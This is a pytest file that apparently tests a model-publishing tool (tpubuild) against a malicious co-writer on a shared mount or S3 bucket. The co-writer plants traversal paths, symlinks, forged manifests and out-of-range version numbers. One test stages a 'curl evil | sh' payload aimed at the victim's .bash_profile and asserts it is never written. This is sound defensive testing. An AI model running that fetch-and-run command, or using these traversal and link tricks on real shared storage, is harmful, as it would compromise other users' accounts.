"""Issue 46, the publish/build/clean side: a destination is data. Two real Unix users in one
group (tests/engine/users.py), umask 002, on a group mount (mode 2775, file://) and on
moto's S3 server (the bucket both can write): the co-writer puts objects and directories
there, the victim publishes (through the publish module, as a build does:
tests/remote/publish_job.py's versions) and runs `tpubuild clean --remote`. Whatever the
co-writer put there, the victim's tpubuild never writes, deletes or renames outside the
destination, never takes a co-writer's version for its own model, never numbers past
what TF Serving reads, and says what it left alone in one warning line (no traceback)."""

from __future__ import annotations

import json
import os
import sys
import textwrap
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.cli import REPO
from tests.engine import users as shared
from tests.engine.users import TwoUsers
from tests.remote.conftest import BUCKET

two_users = shared.two_users  # the fixture: two real users

# The victim's publish, as a build runs it (engine/version.py publish_destinations): one line
# of JSON, the outcome and every line the publish said.
PUBLISH = textwrap.dedent(
    """\
    import json, os, sys
    from pathlib import Path
    from tests.remote.publish_job import fake_version
    from tpubuild.publish import Destination, publish_version

    url, model, work = sys.argv[1], sys.argv[2], Path(sys.argv[3])
    work.mkdir(exist_ok=True)
    said = []
    local = fake_version(work / f"{model}-{os.urandom(4).hex()}", "toy", model)
    outcome = publish_version(Destination(url), "toy", local, work, keep=None, say=said.append)
    print(json.dumps({"number": outcome.number, "new": outcome.new, "said": said}))
    """
)
# What the co-writer does on the mount, as the co-writer's uid: files and directories.
PUT = textwrap.dedent(
    """\
    import json, os, sys
    from pathlib import Path
    for spec in json.loads(sys.argv[1]):
        path = Path(spec["path"])
        if spec.get("dir"):
            path.mkdir(parents=True, exist_ok=True)
        elif spec.get("link"):
            if os.path.lexists(path):
                os.rename(path, f"{path}.before-the-link")
            os.symlink(spec["link"], path)
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(Path(spec["from"]).read_bytes())
    """
)


@dataclass
class Shared:
    """A destination both users can write: `url`, the victim's environment for it, and
    what the co-writer can do there (`put` bytes, `mkdir`, `link`) and read."""

    kind: str
    url: str
    env: dict[str, str]
    users: TwoUsers
    root: Path | None = None  # the mount
    s3: object | None = None
    prefix: str = ""

    def put(self, rel: str, data: bytes) -> None:
        if self.kind == "s3":
            self.s3.client.put_object(Bucket=BUCKET, Key=f"{self.prefix}/{rel}", Body=data)
        else:
            # The bytes handed over in a file the co-writer can read (an argument list is too short).
            blob = self.users.base / f"blob-{os.urandom(8).hex()}"
            blob.write_bytes(data)
            os.chmod(blob, 0o644)
            self.co([{"path": str(self.root / rel), "from": str(blob)}])
            blob.unlink()

    def put_json(self, rel: str, document: object) -> None:
        self.put(rel, json.dumps(document).encode())

    def mkdir(self, rel: str) -> None:
        self.co([{"path": str(self.root / rel), "dir": True}])

    def link(self, rel: str, target: Path) -> None:
        self.co([{"path": str(self.root / rel), "link": str(target)}])

    def co(self, specs: list[dict]) -> None:
        done = self.users.run(self.users.co, ["-c", PUT, json.dumps(specs)])
        assert done.returncode == 0, done.stderr

    def read(self, rel: str) -> bytes:
        if self.kind == "s3":
            return self.s3.client.get_object(Bucket=BUCKET, Key=f"{self.prefix}/{rel}")["Body"].read()
        return (self.root / rel).read_bytes()

    def listing(self) -> list[str]:
        """Every object (file) of the whole bucket, or below the mount's parent: anything
        written outside the destination shows here too."""
        if self.kind == "s3":
            pages = self.s3.client.get_paginator("list_objects_v2").paginate(Bucket=BUCKET)
            return sorted(item["Key"] for page in pages for item in page.get("Contents", []))
        return sorted(os.path.join(d, n) for d, _dirs, names in os.walk(self.users.base) for n in names)


# The S3 variant of each item (moto, minutes on 2 cores) in the slow tier; the mount, two real
# uids, in the default one.
@pytest.fixture(params=["file", pytest.param("s3", marks=pytest.mark.slow)])
def dest(request, two_users, s3) -> Shared:
    return _shared(request.param, request, two_users, s3)


@pytest.fixture
def mount(request, two_users, s3) -> Shared:
    return _shared("file", request, two_users, s3)


def _shared(kind: str, request, users: TwoUsers, s3) -> Shared:
    if kind == "s3":
        prefix = f"trust-{request.node.name.replace('[', '-').rstrip(']')}-{os.getpid()}"
        return Shared("s3", f"s3://{BUCKET}/{prefix}", dict(s3.env), users, s3=s3, prefix=prefix)
    root = users.shared_cache("mount")  # the group's, mode 2775, as a shared mount is made
    return Shared("file", f"file://{root}", {}, users, root=root)


def publish(dest: Shared, model: str) -> dict:
    """The victim publishes `model`; its outcome and what it said. Exit 0, no traceback."""
    users = dest.users
    done = users.run(users.victim, ["-c", PUBLISH, dest.url, model, str(users.victim.home / "work")],
                     extra=dest.env)
    assert done.returncode == 0 and done.stderr == "", done.stderr
    return json.loads(done.stdout)


def clean_remote(dest: Shared) -> tuple[int, list[str], list[str]]:
    """The victim's `tpubuild clean --remote` in a workspace of its own publishing `toy` to
    the destination: (exit code, stdout lines, stderr lines)."""
    users = dest.users
    ws = users.victim.home / "ws"
    if not ws.exists():
        model = ws / "recipes" / "models" / "tiny"
        model.mkdir(parents=True)
        (model / "saved_model.pb").write_bytes(b"")  # what validation reads of it: that it is there
        (ws / "tpubuild.yaml").write_text(f'recipes: ["recipes/*.yaml"]\npublish_to: {dest.url}\n')
        (ws / "recipes" / "toy.yaml").write_text("name: toy\nmodel: {saved_model: models/tiny}\n")
        users.give(ws, users.victim)
    done = users.tpubuild(users.victim, ws, "clean", "--remote", "toy", extra=dest.env)
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, done.stdout.splitlines(), done.stderr.splitlines()


def _blake3(data: bytes) -> str:
    import blake3

    return blake3.blake3(data).hexdigest()


# --- 1. seal fields are never paths -------------------------------------------------------
def test_a_seal_whose_final_leaves_the_destination_is_left_in_place(dest):
    users = dest.users
    assert publish(dest, "a")["number"] == 1
    profile = users.victim.home / ".bash_profile"
    escape = "toy/a/5/../../../../" + os.path.relpath(profile, users.base)  # from the mount: its parent, then home
    payload = b"curl evil | sh\n"
    dest.put("toy/a/5/keep", b"")  # the directories the `..` climb out of
    dest.put("toy/.tpubuild/staging/99/version/x", payload)
    dest.put_json("toy/.tpubuild/sealed/99", {"recipe": "toy", "number": 99, "trees": [
        {"final": escape, "staged": "toy/.tpubuild/staging/99/version",
         "files": {"x": [len(payload), _blake3(payload)]}}]})
    dest.put_json("toy/.tpubuild/sealed/98", {"recipe": "toy", "number": 98, "trees": [
        {"final": "toy/98", "staged": f"/{users.victim.home}/secrets", "files": {"x": [1, "0" * 64]}}]})

    done = publish(dest, "b")
    assert (done["number"], done["new"]) == (100, True)  # the seals' numbers stay taken
    assert done["said"] == [
        f"warning: publish_to {dest.url}: toy/.tpubuild/sealed/98 is not a seal tpubuild wrote (staged "
        f"'/{users.victim.home}/secrets' is not toy/.tpubuild/staging/98/version); left in place",
        f"warning: publish_to {dest.url}: toy/.tpubuild/sealed/99 is not a seal tpubuild wrote (final "
        f"'{escape}' is not toy/99 nor toy/<target>/99); left in place",
    ]
    assert not os.path.lexists(profile)
    assert not [key for key in dest.listing() if ".bash_profile" in key]
    assert json.loads(dest.read("toy/.tpubuild/sealed/99"))["number"] == 99  # left in place


# --- 2. links in the destination are never walked -----------------------------------------
def test_links_in_a_mount_are_never_followed_by_publish_or_clean_remote(mount):
    users = mount.users
    photos = users.victim.home / "photos"
    for number in ("5", "6"):
        (photos / number).mkdir(parents=True)
        (photos / number / "precious.jpg").write_bytes(b"jpeg")
    users.give(photos, users.victim)
    assert publish(mount, "a")["number"] == 1
    graph = b"a graph"
    # A whole version 5 with a seal tpubuild would write, and its staging a link to the photos.
    mount.put("toy/5/saved_model.pb", graph)
    mount.put_json("toy/.tpubuild/sealed/5", {"recipe": "toy", "number": 5, "trees": [
        {"final": "toy/5", "staged": "toy/.tpubuild/staging/5/version",
         "files": {"saved_model.pb": [len(graph), _blake3(graph)]}}]})
    mount.link("toy/.tpubuild/staging", photos)
    mount.link("toy/6", photos / "6")  # a version that is a link: never listed, never removed

    done = publish(mount, "b")
    assert done["number"] == 7  # 6 is a name taken (a link), 5 a version tpubuild did not make
    assert done["said"] == [f"warning: publish_to {mount.url}: toy/.tpubuild/staging: a symbolic link, not a "
                            "directory; replaced by one (what it pointed to untouched)"]
    code, out, err = clean_remote(mount)
    assert code == 0, err
    assert sorted(p.relative_to(photos).as_posix() for p in photos.rglob("*")) == [
        "5", "5/precious.jpg", "6", "6/precious.jpg"]
    assert out == [f"removed {mount.url}/toy/1", f"kept {mount.url}/toy/: 7 (the newest)"]
    assert err == [f"warning: {mount.url}/toy/5: no readable tpubuild-manifest.json; left in place"]
    assert os.path.islink(mount.root / "toy" / "6")


# --- 4. a version counts as the model by its bytes ----------------------------------------
def test_a_co_writers_version_with_a_copy_of_the_manifest_is_not_this_model(dest):
    users = dest.users
    assert publish(dest, "a")["number"] == 1
    manifest = dest.read("toy/1/tpubuild-manifest.json")
    # The co-writer's model of the same architecture (b's bytes) under a's manifest, as the newest.
    sys.path.insert(0, str(REPO))
    from tests.remote.publish_job import fake_version

    theirs = fake_version(users.base / "co-work", "toy", "b")
    for path in sorted(p for p in theirs.rglob("*") if p.is_file() and p.name != "tpubuild-manifest.json"):
        dest.put(f"toy/2/{path.relative_to(theirs).as_posix()}", path.read_bytes())
    dest.put("toy/2/tpubuild-manifest.json", manifest)

    done = publish(dest, "a")  # a fresh CI clone: no note of what it published
    assert (done["number"], done["new"]) == (3, True)
    assert done["said"] == [f"warning: publish_to {dest.url}: toy/2 does not hold what its manifest says "
                            "(toy/2/assets/vocab.txt is other bytes); a new version is published"]
    assert dest.read("toy/3/tpubuild-manifest.json") != b""
    again = publish(dest, "a")  # its own version now the newest: vouched by its bytes, nothing published
    assert (again["number"], again["new"], again["said"]) == (3, False, [])


# --- 5. a directory tpubuild did not make blocks nothing ----------------------------------
def test_an_empty_or_incomplete_number_on_a_mount_blocks_no_publish_nor_clean_remote(mount):
    assert publish(mount, "a")["number"] == 1
    mount.mkdir("toy/2")  # the number the next publish would claim
    done = publish(mount, "b")
    assert (done["number"], done["new"], done["said"]) == (3, True, [])
    # A sealed version whose `<N>/` is a directory tpubuild did not make: never "completed".
    graph = b"a graph"
    mount.put("toy/.tpubuild/staging/4/version/saved_model.pb", graph)
    mount.put_json("toy/.tpubuild/sealed/4", {"recipe": "toy", "number": 4, "trees": [
        {"final": "toy/4", "staged": "toy/.tpubuild/staging/4/version",
         "files": {"saved_model.pb": [len(graph), _blake3(graph)]}}]})
    mount.put("toy/4/junk", b"not a version")
    done = publish(mount, "c")
    assert (done["number"], done["new"]) == (5, True)
    stuck = (f"warning: publish_to {mount.url}: toy/.tpubuild/sealed/4: cannot complete it (toy/4/ exists and is "
             "not this version (saved_model.pb is missing: a directory tpubuild did not make?); nothing written "
             "there); left in place")
    assert done["said"] == [stuck]
    code, out, err = clean_remote(mount)
    assert (code, err) == (0, [stuck])
    assert out == [f"removed {mount.url}/toy/1", f"removed {mount.url}/toy/3",
                   f"kept {mount.url}/toy/: 5 (the newest)"]
    assert os.listdir(mount.root / "toy" / "2") == [] and os.listdir(mount.root / "toy" / "4") == ["junk"]


# --- 6. numbers TF Serving reads ------------------------------------------------------------
def test_claims_past_int64_or_far_above_the_versions_are_ignored_and_the_newest_loadable_stays(dest):
    assert publish(dest, "a")["number"] == 1
    dest.put("toy/.tpubuild/claims/9223372036854775807", b"{}")
    dest.put("toy/.tpubuild/claims/" + "9" * 255, b"{}")
    dest.put("toy/99999999999999999999/saved_model.pb", b"past int64")

    done = publish(dest, "b")
    assert (done["number"], done["new"]) == (2, True)
    assert done["said"] == [
        f"warning: publish_to {dest.url}: \"toy/99999999999999999999\": no version TF Serving reads (its number "
        "is not within int64); left alone",
        f"warning: publish_to {dest.url}: \"toy/.tpubuild/claims/{'9' * (200 - 21)}\": not a name tpubuild "
        "writes; left alone",
        f"warning: publish_to {dest.url}: toy: 9223372036854775807 is more than 1000 above the highest number "
        "before it (1): not a number tpubuild took; it and any above it are ignored",
    ]
    assert publish(dest, "c")["number"] == 3
    dest.put("toy/4/saved_model.pb", b"no model TF Serving loads")  # the newest number, not tpubuild's
    code, out, err = clean_remote(dest)
    assert code == 0, err
    assert out == [f"removed {dest.url}/toy/1", f"removed {dest.url}/toy/2",
                   f"kept {dest.url}/toy/: 4 (the newest), 3 (the newest tpubuild published)"]
    assert dest.read("toy/3/saved_model.pb")  # the newest version TF Serving loads stays


# --- 7. no traceback from destination contents ----------------------------------------------
def test_odd_claims_seals_and_manifests_are_one_warning_line_each(dest):
    assert publish(dest, "a")["number"] == 1
    dest.put("toy/.tpubuild/claims/²", b"{}")
    dest.put_json("toy/.tpubuild/sealed/7", {"recipe": "toy", "number": 7, "trees": [
        {"final": "toy/abc", "staged": "toy/.tpubuild/staging/7/version", "files": {}}]})
    dest.put_json("toy/.tpubuild/sealed/8", {"recipe": "toy", "number": 8, "trees": [
        {"final": "toy/8", "staged": "toy/.tpubuild/staging/8/version", "files": ["saved_model.pb"]}]})
    dest.put("toy/2/saved_model.pb", b"an old version")
    dest.put_json("toy/2/tpubuild-manifest.json", {"recipe": "toy", "files": {"saved_model.pb": "0" * 64},
                                                   "targets": ["cpu_savedmodel"]})
    done = publish(dest, "b")
    assert (done["number"], done["new"]) == (9, True)
    assert done["said"] == [
        f"warning: publish_to {dest.url}: \"toy/.tpubuild/claims/²\": not a name tpubuild writes; left alone",
        f"warning: publish_to {dest.url}: toy/.tpubuild/sealed/7 is not a seal tpubuild wrote (final 'toy/abc' is "
        "not toy/7 nor toy/<target>/7); left in place",
        f"warning: publish_to {dest.url}: toy/.tpubuild/sealed/8 is not a seal tpubuild wrote (files is not an "
        "object of names); left in place",
    ]
    code, out, err = clean_remote(dest)
    assert code == 0, err
    assert out == [f"removed {dest.url}/toy/1", f"kept {dest.url}/toy/: 9 (the newest)"]
    assert err == done["said"] + [
        f"warning: {dest.url}/toy/2: its tpubuild-manifest.json is not one tpubuild writes; left in place"]


# --- 10. update in place checks every copy --------------------------------------------------
def test_update_in_place_refuses_a_report_swapped_in_by_a_co_user(two_users):
    from tpubuild.digests import FileEntry, StatCache, hash_file
    from tpubuild.errors import StageError
    from tpubuild.provenance import statement
    from tpubuild.publish import update_version, versions

    users = two_users
    objects = users.shared_cache("objects")  # a shared cache's objects: the group's, 2775
    recipe_dir = users.base / "out" / "toy"

    def build(tag: str, report: bytes) -> tuple[list, dict]:
        pairs = []
        for name, data in (("saved_model.pb", b"graph"), ("tpubuild-report.json", report)):
            obj = objects / f"{tag}-{name}"
            obj.write_bytes(data)
            os.chmod(obj, 0o444)
            pairs.append((FileEntry(name, hash_file(obj), len(data)), obj))
        manifest = {"recipe": "toy", "recipe_file": "recipes/toy.yaml", "recipe_digest": "d", "content": tag,
                    "model": "m", "created": tag,
                    "files": {f.path: f.hash for f, _ in pairs}}
        return pairs, manifest

    def finish(directory, manifest, target):
        statement.write(directory, manifest, None, target)

    first, manifest = build("c1", b'{"latency": 1}')
    assert versions.publish(recipe_dir, first, manifest, None, finish=finish) == 1
    second, manifest = build("c2", b'{"latency": 2}')
    # The co-user swaps the checked report object for one of theirs (a rename in the group's directory).
    swap = textwrap.dedent(
        """\
        import os, sys
        tmp = sys.argv[1] + ".co"
        open(tmp, "wb").write(b'{"latency": 0, "note": "the co-user\\'s"}')
        os.rename(tmp, sys.argv[1])
        """
    )
    done = users.run(users.co, ["-c", swap, str(second[1][1])])
    assert done.returncode == 0, done.stderr
    with pytest.raises(StageError) as caught:
        update_version(recipe_dir, 1, second, manifest, StatCache(users.base / "stat.json"), finish=finish)
    assert str(caught.value).startswith(f"cache object {second[1][1]} changed after it was checked")
    version = recipe_dir / "1"
    assert (version / "tpubuild-report.json").read_bytes() == b'{"latency": 1}'  # untouched
    subjects = json.loads((version / "tpubuild-provenance.json").read_text())["subject"]
    assert {s["name"] for s in subjects} >= {"saved_model.pb", "tpubuild-report.json"}
    assert json.loads((version / "tpubuild-manifest.json").read_text())["content"] == "c1"
